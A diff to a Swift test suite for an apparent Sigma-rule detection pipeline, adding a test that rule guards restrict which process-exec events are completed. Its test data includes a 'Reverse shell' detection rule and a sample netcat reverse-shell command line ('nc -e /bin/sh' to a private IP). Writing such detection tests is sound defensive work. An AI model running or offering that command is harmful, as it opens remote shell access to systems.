@@ -76,9 +76,9 @@ struct PipelineTests {
         var completed: [String?] = []
         for (second, name) in [(Int64(100), "true"), (101, "nc")] {
             let probe = ExecEvent(eventTime: EventTime(seconds: second), hostName: "h", procName: name)
-            p.exec(probe: probe) { probe in
-                completed.append(probe.procName)
-                var event = probe
+            p.exec(probe: ExecProbe(event: probe)) { probe in
+                completed.append(probe.event.procName)
+                var event = probe.event
                 event.user = "alice"
                 event.swParam = "-l 1"
                 return event
@@ -88,6 +88,57 @@ struct PipelineTests {
         #expect(updates.map(\.kind) == [.created])
         #expect(updates.first?.incident.attribute("swParam") == .string("-l 1"))
         #expect(p.counters.events.current == 2 && p.counters.inputs.current == 2)
+    }
+
+    @Test func anExecNoGuardAdmitsIsNotCompleted() throws {
+        let shell = SigmaRuleDocument.parse(
+            """
+            title: Reverse shell
+            id: 7f734ed0-0000-0000-0000-000000000001
+            logsource: {category: process_creation, product: linux}
+            detection:
+                sel:
+                    CommandLine|contains: ' -e /bin/sh'
+                condition: sel
+            """,
+            file: "shell.yml"
+        )
+        #expect(shell.errors.isEmpty)
+        var updates: [IncidentUpdate] = []
+        let p = pipeline(shell.rules) { updates.append($0) }
+        var completed: [String] = []
+        func exec(_ second: Int64, _ argv: [String]) {
+            let area = argv.flatMap { Array($0.utf8) + [UInt8(0)] }
+            let probe = ExecEvent(eventTime: EventTime(seconds: second), hostName: "h", procName: argv[0])
+            p.exec(probe: ExecProbe(event: probe, argumentArea: area)) { probe in
+                completed.append(argv[0])
+                var event = probe.event
+                event.args = argv.map { Array($0.utf8) }
+                event.user = "alice"
+                return event
+            }
+        }
+        exec(100, ["true"])
+        exec(101, ["nc", "-e", "/bin/sh", "10.0.0.1"])
+        #expect(completed == ["nc"], "the rule's guard is in no other exec's command line")
+        #expect(updates.map(\.incident.ruleId) == ["7f734ed0-0000-0000-0000-000000000001"])
+        #expect(p.counters.events.current == 2 && p.counters.inputs.current == 2)
+        // A rule without a guard may match any exec: every one is completed.
+        let root = SigmaRuleDocument.parse(
+            """
+            title: Root
+            id: 7f734ed0-0000-0000-0000-000000000002
+            logsource: {category: process_creation, product: linux}
+            detection:
+                sel:
+                    User: root
+                condition: sel
+            """,
+            file: "root.yml"
+        )
+        p.replaceRules(shell.rules + root.rules)
+        exec(102, ["true"])
+        #expect(completed == ["nc", "true"])
     }
 
     @Test func replacedRulesApplyFromTheNextInput() throws {
